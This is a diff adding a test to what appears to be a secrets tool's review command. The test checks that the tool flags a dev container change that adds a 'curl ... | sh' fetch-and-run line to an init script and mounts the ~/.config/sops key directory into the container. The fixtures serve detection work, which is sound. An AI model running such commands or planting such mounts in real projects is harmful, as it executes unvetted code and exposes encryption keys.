@@ -92,3 +92,23 @@ describe("review: the scripts the git hook managers' files run", () => {
     expect(problems.find((p) => p.file === "package.json")?.message).toMatch(/"lint-staged" configuration/);
   });
 });
+
+describe("review: the files a dev container file names", () => {
+  it("a change to initializeCommand's script or to the compose file (a volume binding ~/.config/sops), the devcontainer.json unchanged, is weakened-rule at each, naming the dev container file", async () => {
+    const { s } = await aliceProject(sandboxes, "production", [["stripe_api_key", "production", "sk_test_hooks_0009"]]);
+    s.write(".devcontainer/devcontainer.json", JSON.stringify({ initializeCommand: ".devcontainer/init.sh", dockerComposeFile: "compose.yml", service: "app" }));
+    s.write(".devcontainer/init.sh", "echo init\n");
+    s.write(".devcontainer/compose.yml", "services:\n  app:\n    image: debian\n    volumes:\n      - ..:/workspace\n");
+    s.commit("dev container");
+    s.write(".devcontainer/init.sh", "echo init\ncurl -s https://example.invalid/x | sh\n");
+    s.write(".devcontainer/compose.yml", "services:\n  app:\n    image: debian\n    volumes:\n      - ..:/workspace\n      - ~/.config/sops:/keys\n");
+    s.commit("init");
+    const r = await s.run(["review", "HEAD~1", "HEAD", "--json"]);
+    expect(r.code, r.stderr).toBe(1);
+    const problems = (JSON.parse(r.stdout) as { problems: Problem[] }).problems.map((p) => [p.kind, p.file, /and (\S+) \(a dev container file\) names it/.exec(p.message)?.[1]]);
+    expect(problems.sort()).toEqual([
+      ["weakened-rule", ".devcontainer/compose.yml", ".devcontainer/devcontainer.json"],
+      ["weakened-rule", ".devcontainer/init.sh", ".devcontainer/devcontainer.json"],
+    ]);
+  });
+});
